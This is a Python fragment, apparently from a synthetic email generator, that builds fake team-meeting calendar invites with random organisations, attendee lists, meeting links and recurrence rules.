    if m.client == 'zoom':
        m.evp['location'] = m.zoom or zoom_link(rng)


def c_team_meeting(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
    who, _ = ham_corp_sender(m, o)
    meet_links(m)
    m.slots.update(project=rng.choice(['Atlas', 'Phoenix', 'Orion', 'Helix', 'Nimbus', 'Q4 planning']),
                   url=(m.teams[0] if m.teams else m.meet) or m.zoom or zoom_link(rng), org=o[0])
    m.evp['attendees'] = B().crowd(rng, rng.randint(1, 14), (lang,), [o[1]], exclude=(m.rcpt['addr'], m.rcpt['name']))
    if m.kind in ('weekly', 'standup'):
        m.evp['rrule'] = rng.choice(['FREQ=WEEKLY;BYDAY=MO', 'FREQ=WEEKLY;BYDAY=TU;UNTIL=%s' % (
            (m.arrival + TD(days=180)).strftime('%Y%m%dT000000Z')), 'FREQ=DAILY;BYDAY=MO,TU,WE,TH,FR'])
    if m.kind == 'allhands':
        m.evp['attendees'] = B().crowd(rng, rng.randint(80, 300), (lang, 'en'), [o[1]], exclude=(m.rcpt['addr'], m.rcpt['name']))
    if m.client == 'zoom':
        m.evp['location'] = m.zoom
    if rng.random() < 0.15:
        m.evp['vtodo'] = m.client in ('thunderbird', 'nextcloud', 'apple', 'zimbra', 'sogo')
